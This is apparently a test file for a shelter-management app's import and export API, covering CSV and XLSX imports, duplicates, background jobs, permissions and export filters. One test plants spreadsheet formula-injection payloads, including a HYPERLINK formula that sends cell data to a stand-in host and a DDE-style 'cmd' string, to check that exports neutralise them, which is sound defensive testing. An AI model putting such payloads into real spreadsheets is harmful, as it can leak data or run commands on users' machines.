import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { at, testApp, makeOrg, type TestApp, type TestOrg } from '../../../test/harness.ts';
import { assertErrorShape, securitySuite } from '../../../test/security.ts';
import { toIsoDate } from './import.service.ts';
import { IMPORT_JOB, importOptions } from './import.jobs.ts';
import { runDueJobs } from '../../platform/jobs.ts';
import { awaitHorizon } from '../../platform/changes.ts';

let t: TestApp;
before(async () => {
  t = await testApp();
});
after(async () => t.close());

const PEOPLE_CSV = [
  'First Name,Last Name,Email,Phone,Address,City,Postcode,Country,Tags',
  'Ann,Lee,ann@example.org,+44 20 7183 8750,1 High St,London,N1 1AA,GB,donor;friend',
  'Bob,Stone,,,,,,,',
  'Cy,Moss,cy@example.org,not a phone,,,,,',
  'Dee,Park,DEE@example.org,,,,,,',
].join('\n');

async function imp(org: TestOrg, target: string, body: Record<string, unknown>, key?: string) {
  return org.req('POST', `/api/imports/${target}`, { body, ...(key ? { key } : {}) });
}

test('people from CSV: the dry run lists refused rows by line and duplicates, writes nothing; the real run applies choices', async () => {
  const org = await makeOrg(t);
  const dee = await org.req('POST', '/api/v1/people', { body: { firstName: 'Dee', lastName: 'Park', email: 'dee@example.org' } });
  assert.equal(dee.status, 201);
  const dry = await imp(org, 'people', { format: 'csv', content: PEOPLE_CSV, preset: 'spreadsheet', dry_run: true });
  assert.equal(dry.status, 200, JSON.stringify(dry.body));
  assert.equal(dry.body.dry_run, true);
  assert.equal(dry.body.total_rows, 4);
  assert.equal(dry.body.created, 1);
  assert.equal(dry.body.skipped, 1);
  assert.deepEqual(
    dry.body.errors.map((e: { line: number }) => e.line),
    [3, 4],
  );
  assert.match(dry.body.errors[0].message, /^Line 3: .*email/);
  assert.match(dry.body.errors[1].message, /^Line 4: .*phone/);
  assert.deepEqual(dry.body.duplicates, [{ line: 5, match_id: dee.body.id, matched_on: ['email'], choice: 'skip' }]);
  // Nothing was written.
  const none = await org.req('GET', '/api/v1/people?perPage=100');
  assert.equal(none.body.data.length, 1);
  const real = await imp(org, 'people', {
    format: 'csv',
    content: PEOPLE_CSV,
    preset: 'spreadsheet',
    choices: { 5: 'update' },
    defaults: { country: 'GB' },
  });
  assert.equal(real.status, 200, JSON.stringify(real.body));
  assert.equal(real.body.created, 1);
  assert.equal(real.body.updated, 1);
  assert.equal(real.body.skipped, 0);
  const list = await org.req('GET', '/api/v1/people?perPage=100');
  assert.equal(list.body.data.length, 2);
  const annId = list.body.data.find((p: { firstName: string }) => p.firstName === 'Ann').id;
  const ann = (await org.req('GET', `/api/v1/people/${annId}`)).body;
  assert.equal(ann.phone, '+442071838750');
  assert.deepEqual(ann.tags, ['donor', 'friend']);
  assert.equal(ann.address.postalCode, 'N1 1AA');
  // The import recorded its changes like any other write (in the feed once every transaction begun before has ended).
  assert.ok((await awaitHorizon(t.db, 10_000)).passed);
  const feed = await org.req('GET', '/api/changes?area=people');
  assert.deepEqual(
    feed.body.results.map((c: { event: string }) => c.event),
    ['person.created', 'person.updated', 'person.created'],
  );
});

test('animals from XLSX with the ASM preset: microchip duplicates, dates, defaults, saved mappings', async () => {
  const org = await makeOrg(t);
  const chip = await org.req('POST', '/api/v1/animals', {
    body: { name: 'Old', species: 'Dog', status: 'Available', intakeDate: '2026-01-01', microchipNumber: '985112345678901' },
  });
  assert.equal(chip.status, 201);
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Animals');
  ws.addRow(['ANIMALNAME', 'SPECIESNAME', 'SEXNAME', 'DATEBROUGHTIN', 'IDENTICHIPNUMBER', 'EXTRA']);
  ws.addRow(['Rex', 'Dog', 'Male', new Date(Date.UTC(2026, 2, 4)), '', 'x']);
  ws.addRow(['Old again', 'Dog', 'Female', '04/03/2026', '985112345678901', '']);
  ws.addRow(['', 'Cat', 'Female', '2026-03-04', '', '']);
  ws.addRow(['Tabby', 'Cat', 'F', '31/02/2026x', '', '']);
  const content = Buffer.from(await wb.xlsx.writeBuffer()).toString('base64');
  const res = await imp(org, 'animals', { format: 'xlsx', content, preset: 'asm', defaults: { status: 'Available' } });
  assert.equal(res.status, 200, JSON.stringify(res.body));
  assert.equal(res.body.created, 1);
  assert.equal(res.body.skipped, 1);
  assert.deepEqual(res.body.unmapped_columns, ['EXTRA']);
  assert.deepEqual(res.body.duplicates, [{ line: 3, match_id: chip.body.id, matched_on: ['microchip_number'], choice: 'skip' }]);
  assert.deepEqual(
    res.body.errors.map((e: { line: number }) => e.line),
    [4, 5],
  );
  const rex = (await org.req('GET', '/api/v1/animals?perPage=100')).body.data.find((a: { name: string }) => a.name === 'Rex');
  assert.equal(rex.intakeDate, '2026-03-04');
  assert.equal(rex.sex, 'male');
  // A saved mapping, used by id.
  const saved = await org.req('POST', '/api/imports/animals/mappings', {
    body: { name: 'Our sheet', columns: { Pet: 'name', Kind: 'species', In: 'intake_date' } },
  });
  assert.equal(saved.status, 201);
  const again = await org.req('POST', '/api/imports/animals/mappings', {
    body: { name: 'Our sheet', columns: { Pet: 'name', Kind: 'species', Arrived: 'intake_date' } },
  });
  assert.equal(again.body.id, saved.body.id);
  const used = await imp(org, 'animals', {
    format: 'csv',
    content: 'Pet,Kind,Arrived\nMilo,Cat,2026-05-01\n',
    mapping_id: saved.body.id,
    defaults: { status: 'Available' },
  });
  assert.equal(used.body.created, 1);
  const maps = await org.req('GET', '/api/imports/animals/mappings');
  assert.equal(maps.body.results.length, 1);
  assert.equal((await org.req('DELETE', `/api/imports/animals/mappings/${saved.body.id}`)).status, 204);
  const presets = await org.req('GET', '/api/imports/people/mappings');
  assert.deepEqual(
    presets.body.presets.map((p: { name: string }) => p.name),
    ['spreadsheet', 'asm'],
  );
});

test('import rules: a mapping is required, fields are checked, write on the area is needed, bad files are 422', async () => {
  const org = await makeOrg(t);
  assertErrorShape('/api/imports/people', await imp(org, 'people', { format: 'csv', content: 'a\n1' }), 400);
  assertErrorShape('/api/imports/people', await imp(org, 'people', { format: 'csv', content: 'a\n1', columns: { a: 'password' } }), 422);
  assertErrorShape('/api/imports/people', await imp(org, 'people', { format: 'csv', content: 'a\n1', preset: 'nope' }), 422);
  assertErrorShape('/api/imports/people', await imp(org, 'people', { format: 'xlsx', content: 'bm90IGEgemlw', preset: 'asm' }), 422);
  assertErrorShape('/api/imports/people', await imp(org, 'people', { format: 'csv', content: '"a,b\n1', preset: 'asm' }), 422);
  assertErrorShape(
    '/api/imports/people',
    await imp(org, 'people', { format: 'csv', content: PEOPLE_CSV, preset: 'spreadsheet' }, org.keys.readOnly),
    403,
  );
  const animalsOnly = await org.keyWith({ animals: 'write' });
  assertErrorShape(
    '/api/imports/people',
    await imp(org, 'people', { format: 'csv', content: PEOPLE_CSV, preset: 'spreadsheet' }, animalsOnly),
    403,
  );
  assert.equal(toIsoDate('01/02/2026', 'dmy'), '2026-02-01');
  assert.equal(toIsoDate('01/02/2026', 'mdy'), '2026-01-02');
  assert.equal(toIsoDate('13/13/2026', 'dmy'), null);
});

test('export: CSV and XLSX with filters, every row, streamed', async () => {
  const org = await makeOrg(t);
  for (const [name, species] of [
    ['A', 'Dog'],
    ['B', 'Cat'],
    ['C', 'Dog'],
  ])
    await org.req('POST', '/api/v1/animals', { body: { name, species, status: 'Available', intakeDate: '2026-01-01' } });
  const csv = await org.req('GET', '/api/exports/animals?format=csv&species=dog');
  assert.equal(csv.status, 200);
  assert.match(String(csv.headers['content-type']), /text\/csv/);
  assert.match(String(csv.headers['content-disposition']), /attachment; filename="animals-/);
  const rows = parse<{ name: string; species: string }>(csv.raw, { columns: true });
  assert.deepEqual(rows.map((r) => r.name).sort(), ['A', 'C']);
  const res = await t.app.inject({
    method: 'GET',
    url: '/api/exports/animals?format=xlsx',
    headers: { host: org.host, authorization: `Bearer ${org.keys.admin}` },
  });
  assert.equal(res.statusCode, 200);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  assert.equal(at(wb.worksheets, 0).rowCount, 4);
  const people = await org.req('GET', '/api/exports/people');
  assert.equal(people.status, 200);
  const gifts = await org.req('GET', '/api/exports/donations?from=2026-01-01');
  assert.equal(gifts.status, 200);
  assertErrorShape('/api/exports/donations', await org.req('GET', '/api/exports/donations?from=yesterday'), 422);
  assertErrorShape(
    '/api/exports/people',
    await org.req('GET', '/api/exports/people', { key: await org.keyWith({ animals: 'read' }) }),
    403,
  );
});

test('export: text a spreadsheet would run as a formula gets a quote in front, in CSV and XLSX; numbers stay numbers', async () => {
  const org = await makeOrg(t);
  const hostile = ['=HYPERLINK("http://evil.test?"&A1,"Click")', '+1+cmd|x', '-2+3', '@SUM(A1:A9)', '\t=1'];
  for (const name of hostile) {
    const a = await org.req('POST', '/api/v1/animals', { body: { name, species: '@dog', status: 'Available', intakeDate: '2026-01-01' } });
    assert.equal(a.status, 201, a.raw);
  }
  const p = await org.req('POST', '/api/v1/people', {
    body: { firstName: '=HYPERLINK("http://evil.test","x")', lastName: '-Lee', email: 'lee@example.org' },
  });
  assert.equal(p.status, 201, p.raw);
  const animals = parse<{ name: string; species: string }>((await org.req('GET', '/api/exports/animals?format=csv')).raw, {
    columns: true,
  });
  assert.deepEqual(animals.map((r) => r.name).sort(), hostile.map((h) => `'${h}`).sort());
  assert.ok(animals.every((r) => r.species === "'@dog"));
  const people = parse<{ first_name: string; last_name: string }>((await org.req('GET', '/api/exports/people?format=csv')).raw, {
    columns: true,
  });
  assert.deepEqual([people[0]?.first_name, people[0]?.last_name], ['\'=HYPERLINK("http://evil.test","x")', "'-Lee"]);
  const res = await t.app.inject({
    method: 'GET',
    url: '/api/exports/animals?format=xlsx',
    headers: { host: org.host, authorization: `Bearer ${org.keys.admin}` },
  });
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
  const names: unknown[] = [];
  at(wb.worksheets, 0).eachRow((row, i) => {
    if (i > 1) names.push(row.getCell(2).value);
  });
  assert.deepEqual(names.map(String).sort(), hostile.map((h) => `'${h}`).sort());
  // Medical text too (the lot of a recall).
  const medical = await org.req('POST', `/api/animals/${(await org.req('GET', '/api/v1/animals')).body.data[0].id}/medical`, {
    body: { kind: 'vaccine', name: '=1+1', lot: '-L1', given_at: '2026-02-03T15:00:00Z' },
  });
  assert.equal(medical.status, 201, medical.raw);
  const rows = parse<{ name: string; lot: string }>((await org.req('GET', '/api/exports/medical')).raw, { columns: true });
  assert.deepEqual([rows[0]?.name, rows[0]?.lot], ["'=1+1", "'-L1"]);
});

test('export: medical records (a recall by lot) and stays, of live animals only, with their filters', async () => {
  const org = await makeOrg(t);
  const made = async (name: string) => {
    const r = await org.req('POST', '/api/v1/animals', { body: { name, species: 'dog', status: 'Available', intakeDate: '2026-01-01' } });
    assert.equal(r.status, 201, r.raw);
    return r.body.id as string;
  };
  const a = await made('Rex');
  const b = await made('Gone');
  for (const [id, lot] of [
    [a, 'LOT-A1'],
    [a, 'LOT-B2'],
    [b, 'LOT-A1'],
  ] as const) {
    const r = await org.req('POST', `/api/animals/${id}/medical`, {
      body: { kind: 'vaccine', name: 'Rabies', lot, given_at: '2026-02-03T15:00:00Z' },
    });
    assert.equal(r.status, 201, r.raw);
  }
  assert.equal((await org.req('DELETE', `/api/v1/animals/${b}`)).status, 204);
  const recall = await org.req('GET', '/api/exports/medical?lot=LOT-A1');
  assert.equal(recall.status, 200, recall.raw);
  const rows = parse<{ animal_name: string; lot: string; kind: string }>(recall.raw, { columns: true });
  assert.deepEqual(
    rows.map((r) => [r.animal_name, r.lot, r.kind]),
    [['Rex', 'LOT-A1', 'vaccine']],
    'the deleted animal is left out',
  );
  assert.equal(parse((await org.req('GET', '/api/exports/medical?from=2026-02-04')).raw, { columns: true }).length, 0);
  assert.equal(parse((await org.req('GET', '/api/exports/medical?to=2026-02-03')).raw, { columns: true }).length, 2);
  const stays = await org.req('GET', `/api/exports/stays?animal_id=${a}`);
  assert.equal(stays.status, 200, stays.raw);
  const s = parse<{ animal_id: string; outcome_at: string }>(stays.raw, { columns: true });
  assert.deepEqual(
    s.map((r) => [r.animal_id, r.outcome_at]),
    [[a, '']],
    'one open stay',
  );
  assert.equal(parse((await org.req('GET', '/api/exports/stays?open=false')).raw, { columns: true }).length, 0);
  assertErrorShape('/api/exports/medical', await org.req('GET', '/api/exports/medical?kind=magic'), 422);
  assertErrorShape('/api/exports/stays', await org.req('GET', '/api/exports/stays', { key: await org.keyWith({ people: 'read' }) }), 403);
});

const mapping = async (o: TestOrg, target: string) =>
  (
    await o.req('POST', `/api/imports/${target}/mappings`, {
      body: { name: `m${Math.random()}`, columns: { A: target === 'animals' ? 'name' : 'email' } },
    })
  ).body.id as string;
const animalSeed = async (o: TestOrg) =>
  (await o.req('POST', '/api/v1/animals', { body: { name: 'S', species: 'Dog', status: 'Available', intakeDate: '2026-01-01' } })).body
    .id as string;

/** An animal with a medical record: its id is in the medical export's animal_id column. */
const medicalSeed = async (o: TestOrg) => {
  const id = await animalSeed(o);
  await o.req('POST', `/api/animals/${id}/medical`, { body: { kind: 'vaccine', name: 'DHPP', given_at: '2026-01-02T10:00:00Z' } });
  return id;
};

const personSeed = async (o: TestOrg) =>
  (await o.req('POST', '/api/v1/people', { body: { firstName: 'S', lastName: 'Eed', email: `s${Math.random()}@example.org` } })).body
    .id as string;
const donationSeed = async (o: TestOrg) => {
  const donor = await personSeed(o);
  const res = await o.req('POST', '/api/v1/donations', {
    body: { donorId: donor, amount: 10, type: 'one-off', date: '2026-01-01', paymentMethod: 'cash' },
  });
  assert.equal(res.status, 201, res.raw);
  return res.body.id as string;
};

/** A multipart/form-data body, as a browser sends one. */
function form(parts: { name: string; data: string | Buffer; filename?: string }[]) {
  const boundary = `----ark${Math.random().toString(16).slice(2)}`;
  const chunks: Buffer[] = [];
  for (const p of parts) {
    const file = p.filename !== undefined ? `; filename="${p.filename}"` : '';
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${p.name}"${file}\r\n\r\n`));
    chunks.push(Buffer.isBuffer(p.data) ? p.data : Buffer.from(p.data));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { rawBody: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

test('multipart upload: the file in a part and the options as fields, CSV and XLSX, with the same checks as JSON', async () => {
  const org = await makeOrg(t);
  const dry = await org.req(
    'POST',
    '/api/imports/people',
    form([
      { name: 'file', data: PEOPLE_CSV, filename: 'people.csv' },
      { name: 'preset', data: 'spreadsheet' },
      { name: 'dry_run', data: 'true' },
    ]),
  );
  assert.equal(dry.status, 200, JSON.stringify(dry.body));
  assert.equal(dry.body.dry_run, true);
  assert.equal(dry.body.total_rows, 4);
  assert.deepEqual(
    dry.body.errors.map((e: { line: number }) => e.line),
    [3, 4],
  );
  const real = await org.req(
    'POST',
    '/api/imports/people',
    form([
      { name: 'file', data: PEOPLE_CSV, filename: 'people.csv' },
      { name: 'preset', data: 'spreadsheet' },
      { name: 'defaults', data: JSON.stringify({ country: 'GB' }) },
    ]),
  );
  assert.equal(real.status, 200, JSON.stringify(real.body));
  assert.equal(real.body.created, 2);
  assert.equal((await org.req('GET', '/api/v1/people?perPage=100')).body.data.length, 2);
  // An XLSX workbook: its format is found from the file.
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet('Animals');
  ws.addRow(['Pet', 'Kind', 'In']);
  ws.addRow(['Pip', 'Cat', '2026-05-01']);
  const xlsx = Buffer.from(await wb.xlsx.writeBuffer());
  const animals = await org.req(
    'POST',
    '/api/imports/animals',
    form([
      { name: 'file', data: xlsx, filename: 'animals.xlsx' },
      { name: 'columns', data: JSON.stringify({ Pet: 'name', Kind: 'species', In: 'intake_date' }) },
      { name: 'defaults', data: JSON.stringify({ status: 'Available' }) },
    ]),
  );
  assert.equal(animals.status, 200, JSON.stringify(animals.body));
  assert.equal(animals.body.created, 1);
  // The same workbook in the background: the stored file is read back by the job.
  const bg = await org.req(
    'POST',
    '/api/imports/animals',
    form([
      { name: 'file', data: xlsx, filename: 'animals.xlsx' },
      { name: 'columns', data: JSON.stringify({ Pet: 'name', Kind: 'species', In: 'intake_date' }) },
      { name: 'defaults', data: JSON.stringify({ status: 'Available' }) },
      { name: 'background', data: 'true' },
    ]),
  );
  assert.equal(bg.status, 202, JSON.stringify(bg.body));
  await runDueJobs(t.ctx, { orgId: org.id, kinds: [IMPORT_JOB] });
  const bgDone = (await org.req('GET', `/api/imports/animals/runs/${bg.body.id}`)).body;
  assert.deepEqual([bgDone.status, bgDone.created, bgDone.failure], ['done', 1, null]);
  // The same refusals as JSON: no file, an unknown field, bad JSON, an unknown field name in the mapping.
  const noFile = await org.req('POST', '/api/imports/people', form([{ name: 'preset', data: 'spreadsheet' }]));
  assertErrorShape('/api/imports/people', noFile, 400);
  const extra = await org.req(
    'POST',
    '/api/imports/people',
    form([
      { name: 'file', data: PEOPLE_CSV },
      { name: 'owner', data: 'x' },
    ]),
  );
  assertErrorShape('/api/imports/people', extra, 422);
  const badJson = await org.req(
    'POST',
    '/api/imports/people',
    form([
      { name: 'file', data: PEOPLE_CSV },
      { name: 'columns', data: '{' },
    ]),
  );
  assertErrorShape('/api/imports/people', badJson, 422);
  const badField = await org.req(
    'POST',
    '/api/imports/people',
    form([
      { name: 'file', data: PEOPLE_CSV },
      { name: 'columns', data: JSON.stringify({ Email: 'password' }) },
    ]),
  );
  assertErrorShape('/api/imports/people', badField, 422);
});

function peopleCsv(n: number, from = 0) {
  const rows = ['First Name,Last Name,Email'];
  for (let i = from; i < from + n; i++) rows.push(`P${i},Batch,p${i}@batch.example`);
  return rows.join('\n');
}

test('a background import runs in batches on the job queue, shows its progress, and resumes after a crash without doubles', async () => {
  const org = await makeOrg(t);
  const saved = { ...importOptions };
  importOptions.batchRows = 5;
  try {
    // 12 rows, one refused (line 6: no email) and one duplicate of an existing person (line 9).
    const existing = await org.req('POST', '/api/v1/people', { body: { firstName: 'Old', lastName: 'One', email: 'p7@batch.example' } });
    assert.equal(existing.status, 201);
    const csv = peopleCsv(12).replace('P4,Batch,p4@batch.example', 'P4,Batch,');
    const res = await imp(org, 'people', { format: 'csv', content: csv, preset: 'spreadsheet', background: true });
    assert.equal(res.status, 202, JSON.stringify(res.body));
    assert.equal(res.body.status, 'queued');
    assert.deepEqual(res.body.progress, { rows_done: 0, total_rows: 12, percent: 0, batches: 0 });
    assert.equal(res.headers.location, `/api/imports/people/runs/${res.body.id}`);
    const url = `/api/imports/people/runs/${res.body.id}`;
    // The worker stops after the first batch has committed (a crash between batches); progress is read mid-way.
    let mid: { status: string; progress: { rows_done: number; percent: number }; created: number } | null = null;
    importOptions.afterBatch = async (_id, next) => {
      mid = (await org.req('GET', url)).body;
      if (next === 5) throw new Error('worker crashed');
    };
    await runDueJobs(t.ctx, { orgId: org.id, kinds: [IMPORT_JOB] });
    assert.ok(mid);
    const seen = mid as { status: string; progress: { rows_done: number; percent: number }; created: number };
    assert.equal(seen.status, 'running');
    assert.deepEqual([seen.progress.rows_done, seen.progress.percent, seen.created], [5, 41, 4]);
    const after = (await org.req('GET', url)).body;
    assert.equal(after.progress.rows_done, 5, 'the checkpoint of the committed batch');
    assert.equal((await org.req('GET', '/api/v1/people?perPage=100')).body.data.length, 5);
    // The queue retries the job later; its time comes now. It resumes at row 6 and imports each row once.
    importOptions.afterBatch = undefined;
    await t.db.query("UPDATE jobs SET run_at = now() WHERE organization_id = $1 AND kind = $2 AND status = 'queued'", [org.id, IMPORT_JOB]);
    await runDueJobs(t.ctx, { orgId: org.id, kinds: [IMPORT_JOB] });
    const done = (await org.req('GET', url)).body;
    assert.equal(done.status, 'done');
    assert.deepEqual(done.progress, { rows_done: 12, total_rows: 12, percent: 100, batches: 3 });
    assert.deepEqual([done.created, done.updated, done.skipped, done.error_count, done.duplicate_count], [10, 0, 1, 1, 1]);
    assert.deepEqual(
      done.errors.map((e: { line: number }) => e.line),
      [6],
    );
    assert.equal(done.duplicates[0].line, 9);
    const people = (await org.req('GET', '/api/v1/people?perPage=100')).body.data as { email: string }[];
    assert.equal(people.length, 11);
    assert.equal(new Set(people.map((p) => p.email)).size, 11, 'no row imported twice');
    // Another list's path, or another organization, does not find the run.
    assertErrorShape('/api/imports/animals', await org.req('GET', `/api/imports/animals/runs/${res.body.id}`), 404);
    const other = await makeOrg(t);
    assertErrorShape('/api/imports/people', await other.req('GET', url), 404);
    // A background dry run writes nothing but its checkpoints.
    const dry = await imp(org, 'people', {
      format: 'csv',
      content: peopleCsv(7, 100),
      preset: 'spreadsheet',
      background: true,
      dry_run: true,
    });
    assert.equal(dry.status, 202);
    await runDueJobs(t.ctx, { orgId: org.id, kinds: [IMPORT_JOB] });
    const dryDone = (await org.req('GET', `/api/imports/people/runs/${dry.body.id}`)).body;
    assert.deepEqual([dryDone.status, dryDone.created, dryDone.progress.batches], ['done', 7, 2]);
    assert.equal((await org.req('GET', '/api/v1/people?perPage=100')).body.data.length, 11);
  } finally {
    Object.assign(importOptions, saved);
    importOptions.afterBatch = undefined;
  }
});

test('a file above the background threshold goes to the background without being asked', async () => {
  const org = await makeOrg(t);
  const saved = importOptions.backgroundAbove;
  importOptions.backgroundAbove = 3;
  try {
    const res = await imp(org, 'people', { format: 'csv', content: peopleCsv(4), preset: 'spreadsheet' });
    assert.equal(res.status, 202, JSON.stringify(res.body));
    const small = await imp(org, 'people', { format: 'csv', content: peopleCsv(3, 50), preset: 'spreadsheet' });
    assert.equal(small.status, 200);
    await runDueJobs(t.ctx, { orgId: org.id, kinds: [IMPORT_JOB] });
    const done = (await org.req('GET', `/api/imports/people/runs/${res.body.id}`)).body;
    assert.deepEqual([done.status, done.created], ['done', 4]);
  } finally {
    importOptions.backgroundAbove = saved;
  }
});

async function importRun(o: TestOrg, target: 'animals' | 'people') {
  const content = target === 'people' ? 'Email,First Name,Last Name\nx@run.example,X,Y' : 'Name,Species\nX,Dog';
  const res = await imp(o, target, { format: 'csv', content, preset: 'spreadsheet', background: true, dry_run: true });
  assert.equal(res.status, 202, JSON.stringify(res.body));
  return res.body.id as string;
}

securitySuite('import and export', () => t, [
  {
    method: 'POST',
    path: () => '/api/imports/animals',
    body: { format: 'csv', content: 'Name\nX', preset: 'spreadsheet', dry_run: true },
    area: 'animals',
    level: 'write',
  },
  {
    method: 'POST',
    path: () => '/api/imports/people',
    body: { format: 'csv', content: 'Email\nx', preset: 'spreadsheet', dry_run: true },
    area: 'people',
    level: 'write',
  },
  { method: 'GET', path: async (o) => `/api/imports/animals/runs/${await importRun(o, 'animals')}`, area: 'animals', level: 'write' },
  { method: 'GET', path: async (o) => `/api/imports/people/runs/${await importRun(o, 'people')}`, area: 'people', level: 'write' },
  { method: 'GET', path: () => '/api/imports/animals/mappings', area: 'animals', level: 'read', seed: (o) => mapping(o, 'animals') },
  { method: 'GET', path: () => '/api/imports/people/mappings', area: 'people', level: 'read', seed: (o) => mapping(o, 'people') },
  {
    method: 'POST',
    path: () => '/api/imports/animals/mappings',
    body: { name: 'x', columns: { A: 'name' } },
    area: 'animals',
    level: 'write',
  },
  {
    method: 'POST',
    path: () => '/api/imports/people/mappings',
    body: { name: 'x', columns: { A: 'email' } },
    area: 'people',
    level: 'write',
  },
  { method: 'DELETE', path: async (o) => `/api/imports/animals/mappings/${await mapping(o, 'animals')}`, area: 'animals', level: 'write' },
  { method: 'DELETE', path: async (o) => `/api/imports/people/mappings/${await mapping(o, 'people')}`, area: 'people', level: 'write' },
  { method: 'GET', path: () => '/api/exports/animals', area: 'animals', level: 'read', seed: animalSeed },
  { method: 'GET', path: () => '/api/exports/people', area: 'people', level: 'read', seed: personSeed },
  { method: 'GET', path: () => '/api/exports/donations', area: 'fundraising', level: 'read', seed: donationSeed },
  { method: 'GET', path: () => '/api/exports/medical', area: 'animals', level: 'read', seed: medicalSeed },
  { method: 'GET', path: () => '/api/exports/stays', area: 'animals', level: 'read', seed: animalSeed },
]);
